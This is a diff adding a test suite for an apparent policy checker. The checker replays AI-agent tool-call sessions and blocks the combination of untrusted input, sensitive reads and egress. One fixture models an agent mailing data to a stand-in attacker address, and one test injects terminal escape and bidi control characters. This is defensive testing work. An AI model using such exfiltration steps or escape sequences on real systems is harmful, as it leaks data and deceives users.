@@ -1,0 +1,275 @@
+# SPDX-License-Identifier: Apache-2.0
+"""check and replay: the session file, the decisions, what flips, and what a bad line gets."""
+import json
+
+from run import Failure, Run, case, put, test
+
+POLICY = """interlock: 1
+machine: trifecta
+servers:
+  t: {trust: inside}
+tools:
+  - {match: t.fetch, effects: [untrusted]}
+  - {match: t.read, effects: [sensitive]}
+  - {match: t.send, effects: [egress], sink: once, audience: addressed, to: {email: to}, reads: [body]}
+  - {match: t.post, effects: [egress]}
+  - {match: t.everything, effects: [commit, egress, secret, untrusted]}
+  - {match: own, effects: []}
+"""
+ASKS = POLICY + "approvals: {expires: 10m}\n"
+SEND = {"tool": "t.send", "args": {"to": "eve@evil.example", "body": "x"}, "result": "ok"}
+FETCH, READ, POST = {"tool": "t.fetch", "result": "x"}, {"tool": "t.read", "result": "y"}, {"tool": "t.post"}
+
+
+def sessions(*lines):
+    return "".join(json.dumps(line) + "\n" for line in lines)
+
+
+def decide(t, *lines, policy=POLICY, code=1, command="check"):
+    """The printed objects of the sessions, and the summary."""
+    run = Run(command, "--policy", put(t, "policy.yaml", policy), "--json", stdin=sessions(*lines)).exits(code)
+    printed = [json.loads(line) for line in run.out.splitlines()]
+    return printed[:-1], printed[-1]["summary"]
+
+
+def actions(session):
+    return [(d["action"], d["layer"], d["reason"]) for d in session["decisions"]]
+
+
+def same(got, want):
+    if got != want:
+        raise Failure(f"got  {got!r}\nwant {want!r}")
+
+
+ALLOW = ("allow", None, None)
+TRIFECTA = ("block", "machine", "lethal-trifecta")
+
+
+@test
+def check_prints_the_members_in_their_order(t):
+    run = Run("check", "--policy", put(t, "policy.yaml", POLICY), "--json", stdin=sessions({"id": "a", "steps": [FETCH]})).exits(0)
+    same(run.out.splitlines()[0], '{"id":"a","decisions":[{"step":1,"tool":"t.fetch","effects":["untrusted"],"action":"allow","layer":null,"reason":null}]}')
+
+
+@test
+def check_counts_what_it_decided(t):
+    _, summary = decide(t, {"steps": [FETCH, READ, POST]}, {"steps": [{"tool": "own"}]})
+    same(summary, {"sessions": 2, "steps": 4, "block": 1, "require_approval": 0, "allow": 3})
+
+
+@test
+def check_orders_effects_as_the_design_does(t):
+    (session,), _ = decide(t, {"steps": [{"tool": "t.everything"}]})
+    same(session["decisions"][0]["effects"], ["untrusted", "sensitive", "secret", "egress", "commit"])
+
+
+@test
+def check_ids_are_line_numbers_unless_given(t):
+    run = Run("check", "--policy", put(t, "policy.yaml", POLICY), "--json", stdin='{"steps":[]}\n\n{"id":"x","steps":[]}\n{"steps":[],"id":null}\n').exits(0)
+    same([json.loads(line).get("id") for line in run.out.splitlines()[:-1]], [1, "x", 4])
+
+
+@test
+def check_ignores_members_that_it_does_not_know(t):
+    decide(t, {"id": "a", "goal": {"b": [1]}, "prompt": "do it", "steps": [{**FETCH, "origin": "user", "seen": None}]}, code=0)
+
+
+@test
+def check_sessions_are_apart(t):
+    printed, _ = decide(t, {"steps": [FETCH, READ]}, {"steps": [POST]}, code=0)
+    same([actions(s) for s in printed], [[ALLOW, ALLOW], [ALLOW]])
+
+
+@test
+def check_joins_a_parent(t):
+    printed, _ = decide(t, {"id": "p", "steps": [FETCH, READ]}, {"id": "c", "parent": "p", "steps": [POST]}, {"id": "d", "steps": [POST]})
+    same([actions(s) for s in printed[1:]], [[TRIFECTA], [ALLOW]])
+
+
+@test
+def check_a_step_that_is_not_allowed_does_not_run(t):
+    # Had the refused post opened its way out, the second read would be refused as well.
+    (session,), _ = decide(t, {"steps": [FETCH, READ, POST, READ]})
+    same(actions(session), [ALLOW, ALLOW, TRIFECTA, ALLOW])
+
+
+@test
+def check_an_open_way_out_stays_open(t):
+    (session,), _ = decide(t, {"steps": [POST, FETCH, READ]})
+    same(actions(session), [ALLOW, ALLOW, TRIFECTA])
+
+
+@test
+def check_a_once_sink_is_over_when_it_settles(t):
+    (session,), _ = decide(t, {"steps": [SEND, FETCH, READ]}, code=0)
+    same(actions(session), [ALLOW, ALLOW, ALLOW])
+
+
+@test
+def check_an_approved_step_passes_once(t):
+    steps = [FETCH, READ, {**SEND, "approved": True}, SEND]
+    (session,), summary = decide(t, {"steps": steps}, policy=ASKS)
+    same(actions(session), [ALLOW, ALLOW, ALLOW, ("require_approval", "machine", "lethal-trifecta")])
+    same(summary["require_approval"], 1)
+
+
+@test
+def check_an_approval_releases_nothing_that_is_final(t):
+    (session,), _ = decide(t, {"steps": [FETCH, READ, {**POST, "approved": True}]}, policy=ASKS)
+    same(actions(session)[2], TRIFECTA)
+    (session,), _ = decide(t, {"steps": [FETCH, READ, {**SEND, "approved": True}]})  # a policy without approvals
+    same(actions(session)[2], TRIFECTA)
+
+
+@test
+def check_an_error_counts_as_the_worst_case(t):
+    (session,), _ = decide(t, {"steps": [{"tool": "t.fetch", "error": "timed out"}, {"tool": "t.read", "error": {"code": 1}}, POST]})
+    same(actions(session)[2], TRIFECTA)
+
+
+@test
+def check_judges_a_monitor_policy_as_in_enforce(t):
+    (session,), _ = decide(t, {"steps": [FETCH, READ, POST]}, policy=POLICY + "mode: monitor\n")
+    same(actions(session)[2], TRIFECTA)
+
+
+@test
+def check_splits_a_tool_at_its_first_dot(t):
+    (session,), _ = decide(t, {"steps": [{"tool": "own"}, {"tool": "t.own"}, {"tool": "t.read.more"}]})
+    same([a[0] for a in actions(session)], ["allow", "block", "block"])
+
+
+@test
+def check_says_the_same_twice(t):
+    policy = put(t, "policy.yaml", ASKS)
+    text = sessions({"steps": [FETCH, READ, {**SEND, "approved": True}, SEND, POST]})
+    first, second = (Run("check", "--policy", policy, *more, stdin=text).exits(1).out for more in ([], []))
+    same(first, second)
+
+
+@test
+def check_text_names_the_denied_step(t):
+    run = Run("check", "--policy", put(t, "policy.yaml", POLICY), stdin=sessions({"id": "a", "steps": [FETCH, READ, POST]})).exits(1)
+    run.says("a: 3 steps, 1 not allowed", "out").says("step 3  t.post", "out").says("lethal-trifecta", "out").says("2 allowed, 1 blocked", "out")
+
+
+@test
+def check_text_cannot_drive_a_terminal(t):
+    run = Run("check", "--policy", put(t, "policy.yaml", POLICY), stdin=sessions({"id": "\x1b[31m\u202e\u009b", "steps": [{"tool": "a\x1b]0;b\x07"}]}))
+    run.exits(1).says("\\u{1b}[31m\\u{202e}\\u{9b}", "out").says("a\\u{1b}]0;b\\u{7}", "out")
+    if any(c in run.out for c in "\x1b\x07\u202e\u009b"):
+        run.fail("a control character on a terminal")
+
+
+@test
+def check_takes_several_files_each_a_world(t):
+    policy = put(t, "policy.yaml", POLICY)
+    one, two = put(t, "1.ndjson", sessions({"steps": [FETCH]})), put(t, "2.ndjson", sessions({"steps": [READ, POST]}))
+    run = Run("check", "--policy", policy, "--json", one, two).exits(0)
+    same([json.loads(line).get("id") for line in run.out.splitlines()], [1, 1, None])
+    Run("check", "--policy", policy, put(t, "3.ndjson", sessions({"id": "p", "steps": []})), put(t, "4.ndjson", sessions({"parent": "p", "steps": []}))).exits(3)
+
+
+@test
+def check_needs_a_policy(_):
+    Run("check").refuses().says("--policy")
+
+
+@test
+def check_reports_a_full_disk(t):
+    import subprocess
+    from run import INTERLOCK
+    with open("/dev/full", "w", encoding="utf-8") as full:
+        done = subprocess.run([INTERLOCK, "check", "--policy", put(t, "policy.yaml", POLICY)], input=sessions({"steps": [FETCH]}).encode(), stdout=full,
+                              stderr=subprocess.PIPE, timeout=30, check=False)
+    if done.returncode != 5 or b"cannot write" not in done.stderr:
+        raise Failure(f"exit {done.returncode}, {done.stderr!r}")
+
+
+# A bad line: its position in the file, exit 3, and what came before stays whole.
+BAD = {  # name: (line, position of the error, words)
+    "is cut short": ('{"steps":[{"tool":"t.read"}', "2:28", "text ends"),
+    "is no object": ("[1]", "2:1", "object"),
+    "has a key twice": ('{"steps":[],"steps":[]}', "2:13", "steps"),
+    "has no steps": ('{"id":"b"}', "2:1", "steps"),
+    "has steps that are no list": ('{"steps":{}}', "2:10", "steps"),
+    "has a step without a tool": ('{"steps":[{"args":{}}]}', "2:11", "tool"),
+    "has a tool that is no text": ('{"steps":[{"tool":5}]}', "2:19", "tool"),
+    "has arguments that are no object": ('{"steps":[{"tool":"t.read","args":[]}]}', "2:35", "args"),
+    "has an approval that is no bool": ('{"steps":[{"tool":"t.read","approved":"yes"}]}', "2:39", "approved"),
+    "has an id twice": ('{"id":"a","steps":[]}', "2:7", "line 1"),
+    "has the id of a line": ('{"id":1,"steps":[]}', "2:7", "line 1"),
+    "has a parent that comes later": ('{"parent":"z","steps":[]}', "2:11", "`z`"),
+    "is its own parent": ('{"id":"s","parent":"s","steps":[]}', "2:20", "`s`"),
+    "has a prompt that is no text": ('{"prompt":[],"steps":[]}', "2:11", "prompt"),
+    "has bad UTF-8": (b'{"id":"\xff","steps":[]}', "2:8", "utf-8"),
+    "has text behind it": ('{"steps":[]} {}', "2:14", ""),
+    "has a NUL": (b'{"steps":[]\x00}', "2:12", ""),
+}
+
+
+def bad_line(t, line, position, words):
+    first = '{"id":"a","steps":[]}\n' if "1,\"steps" not in str(line) else '{"steps":[]}\n'
+    text = first.encode() + (line if isinstance(line, bytes) else line.encode()) + b'\n{"steps":[]}\n'
+    path = put(t, "s.ndjson", text)
+    run = Run("check", "--policy", put(t, "policy.yaml", POLICY), "--json", path).exits(3)
+    run.says(f"s.ndjson:{position}: error: ").says(words)
+    printed = [json.loads(one) for one in run.out.splitlines()]
+    if len(printed) != 1 or printed[0]["decisions"] != [] or not run.out.endswith("\n"):
+        run.fail("want the first session's line, and no summary")
+
+
+for _name, (_line, _position, _words) in BAD.items():
+    case(f"check: a line that {_name}", lambda t, l=_line, p=_position, w=_words: bad_line(t, l, p, w))
+
+
+@test
+def check_session_files_that_cannot_be_read(t):
+    policy = put(t, "policy.yaml", POLICY)
+    Run("check", "--policy", policy, str(t / "none.ndjson")).refuses().says("none.ndjson")
+    Run("check", "--policy", policy, str(t)).exits(3)
+
+
+@test
+def check_a_file_of_binary_junk(t):
+    Run("check", "--policy", put(t, "policy.yaml", POLICY), put(t, "s.ndjson", bytes(range(256)) * 4000)).exits(3)
+
+
+# --- replay ---------------------------------------------------------------------------------------
+def flips(t, *lines, code=1):
+    loose = put(t, "loose.yaml", POLICY.replace("t.read, effects: [sensitive]", "t.read, effects: []"))
+    tight = put(t, "tight.yaml", POLICY)
+    printed = []
+    for pair in ((tight, loose), (loose, tight)):
+        run = Run("replay", "--policy", pair[0], "--against", pair[1], "--json", stdin=sessions(*lines)).exits(code)
+        printed.append([json.loads(line) for line in run.out.splitlines()])
+    return printed
+
+
+@test
+def replay_shows_flips_both_ways(t):
+    to_allow, from_allow = flips(t, {"id": "a", "steps": [FETCH, READ, POST]})
+    step = to_allow[0]["flips"]
+    same([(f["step"], f["tool"], f["policy"]["action"], f["against"]["action"]) for f in step], [(3, "t.post", "block", "allow")])
+    same((to_allow[1]["summary"]["to_allow"], to_allow[1]["summary"]["from_allow"]), (1, 0))
+    same([(f["step"], f["policy"]["action"], f["against"]["action"], f["against"]["reason"]) for f in from_allow[0]["flips"]],
+         [(3, "allow", "block", "lethal-trifecta")])
+    same((from_allow[1]["summary"]["to_allow"], from_allow[1]["summary"]["from_allow"]), (0, 1))
+
+
+@test
+def replay_without_a_flip_is_fine_although_calls_are_denied(t):
+    policy = put(t, "policy.yaml", POLICY)
+    run = Run("replay", "--policy", policy, "--against", policy, "--json", stdin=sessions({"steps": [FETCH, READ, POST]})).exits(0)
+    same(json.loads(run.out.splitlines()[0]), {"id": 1, "flips": []})
+
+
+@test
+def replay_alone_is_check(t):
+    policy, text = put(t, "policy.yaml", POLICY), sessions({"steps": [FETCH, READ, POST]})
+    same(Run("replay", "--policy", policy, "--json", stdin=text).exits(1).out, Run("check", "--policy", policy, "--json", stdin=text).exits(1).out)
+
+
+@test
+def replay_refuses_a_second_policy_that_is_none(t):
+    Run("replay", "--policy", put(t, "p.yaml", POLICY), "--against", put(t, "q.yaml", POLICY.replace("tools:", "tool:")), stdin="").refuses(True).says("q.yaml:5:")
